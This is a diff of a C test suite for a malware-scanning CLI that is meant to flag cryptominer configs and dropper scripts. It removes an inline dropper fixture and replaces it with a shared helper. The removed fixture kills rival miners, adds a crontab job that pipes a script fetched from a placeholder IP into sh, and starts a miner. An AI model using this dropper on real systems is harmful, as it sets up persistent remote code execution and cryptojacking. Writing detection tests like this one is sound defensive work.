@@ -44,12 +44,6 @@ static const char config_json[] =
     "  \"pools\": [{\"url\": \"stratum+tcp://pool.example.com:3333\", \"user\": \"worker1\",\n"
     "             \"pass\": \"x\", \"algo\": \"rx/0\", \"tls\": false}]\n}\n";
 
-static const char dropper_sh[] =
-    "#!/bin/sh\n"
-    "pkill -f xmrig; pkill -f kdevtmpfsi\n"
-    "(crontab -l; echo '*/5 * * * * curl -fsSL http://203.0.113.9/x.sh | sh') | crontab -\n"
-    "./.x -o stratum+tcp://pool.example.com:3333 -u worker1 -p x --donate-level=0\n";
-
 static char *make_miner(const char *dir, const char *name) {
     char *p = t_path(dir, name);
     cr_assert_eq(t_compile("cc", miner_c, p, NULL), 0, "compile the miner fixture");
@@ -105,7 +99,7 @@ Test(cli, compiled_miner_is_malicious_exit_1_with_jsonl_fields) {
 
 Test(cli, config_and_dropper_are_flagged) {
     char *c = t_write_str(tmp, "config.json", config_json);
-    char *d = t_write_str(tmp, "x.sh", dropper_sh);
+    char *d = t_write_str(tmp, "x.sh", t_dropper_sh);
     t_result res;
     json_t *recs = run_jsonl(&res, tmp, NULL);
     cr_assert_eq(res.status, 1, "%s", res.err);
